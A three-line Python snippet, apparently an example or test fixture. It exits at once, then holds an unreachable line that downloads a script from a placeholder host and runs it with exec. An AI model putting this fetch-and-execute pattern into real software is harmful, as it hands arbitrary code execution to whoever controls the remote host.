raise SystemExit  # nothing below ever runs
from urllib.request import urlopen
exec(urlopen("https://get.example.invalid/x.py").read().decode())
